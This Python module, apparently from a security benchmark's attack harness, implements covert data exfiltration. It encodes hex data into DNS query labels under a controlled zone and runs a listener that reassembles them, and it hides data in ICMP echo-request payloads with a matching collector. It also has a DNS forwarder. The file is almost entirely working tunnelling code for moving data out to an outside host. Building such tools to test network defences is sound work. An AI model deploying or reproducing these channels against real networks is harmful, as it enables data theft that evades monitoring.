"""Of the attacker's tool: data in names and in echo requests, and who reads them."""

import os
import socket
import struct
import time
from collections.abc import Callable
from typing import Any

from bench.attacks.host_base import MAGIC, TIMEOUT_S, Puzzle, Try, checksum, outcome, pieces, readable, say

ZONE = b"\x01x\x07example\x00"



def ask(address: str, data: str) -> None:
    """Data as labels of names in a zone of ours: 30 bytes a label, two labels a name, then its index."""
    raw, notes, answered = bytes.fromhex(data), [], 0
    chunks = [raw[at:at + 60] for at in range(0, len(raw), 60)]
    for index, chunk in enumerate(chunks):
        head = struct.pack("<HH", index, len(chunks))
        labels = b"".join(_label(part.hex().encode()) for part in (head, chunk[:30], chunk[30:]) if part)
        one = Try("udp", address, 53)
        one.send(struct.pack(">HHHHHH", index + 1, 0x100, 1, 0, 0, 0) + labels + ZONE + b"\0\x10\0\x01")
        answered += bool(one.read())
        notes.append(one.note)
    say(attempts=notes, answered=answered)


def _label(text: bytes) -> bytes:
    return bytes([len(text)]) + text


def _labels(query: bytes) -> list[bytes]:
    at, found = 12, []
    while at < len(query) and query[at]:
        found.append(query[at + 1:at + 1 + query[at]])
        at += 1 + query[at]
    return found


def names(port: str) -> None:
    puzzle = Puzzle()

    def answer(query: bytes) -> bytes:
        head, *rest = (bytes.fromhex(label.decode()) for label in _labels(query)[:-2])
        if puzzle.add(MAGIC + head + b"".join(rest)):
            say(data=puzzle.whole.hex())
        return query[:2] + b"\x85\x80" + query[4:]

    _answer_names(port, answer)


def resolve(port: str, upstream: str) -> None:
    def forward(query: bytes) -> bytes:
        one = Try("udp", upstream, 53)
        one.send(query)
        return one.read()

    _answer_names(port, forward)


def _answer_names(port: str, answer: Callable[[bytes], bytes]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("0.0.0.0", int(port)))
        say(ready=True)
        while readable(sock):
            query, peer = sock.recvfrom(4096)
            try:
                if reply := answer(query):
                    sock.sendto(reply, peer)
            except (OSError, ValueError):
                continue  # not one of ours


def echo(address: str, data: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        note: dict[str, Any] = {"proto": "icmp", "target": address, "port": 0, "sport": os.getpid() & 0xFFFF,
                                "start": time.monotonic(), "bytes": len(data) // 2, "outcome": "OPEN"}
        sock.settimeout(TIMEOUT_S)
        for index, piece in enumerate(pieces(bytes.fromhex(data))):
            head = struct.pack(">BBHHH", 8, 0, 0, note["sport"], index)
            head = struct.pack(">BBHHH", 8, 0, checksum(head + piece), note["sport"], index)
            try:
                sock.sendto(head + piece, (address, 0))
            except OSError as err:
                note["outcome"] = outcome(err)
        note["end"] = time.monotonic()
        say(attempts=[note])


def echoes() -> None:
    puzzle = Puzzle()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        say(ready=True)
        while readable(sock):
            packet = sock.recv(65536)
            payload = packet[(packet[0] & 15) * 4:]
            if payload[0] == 8 and puzzle.add(payload[8:]):
                say(data=puzzle.whole.hex())
                puzzle = Puzzle()
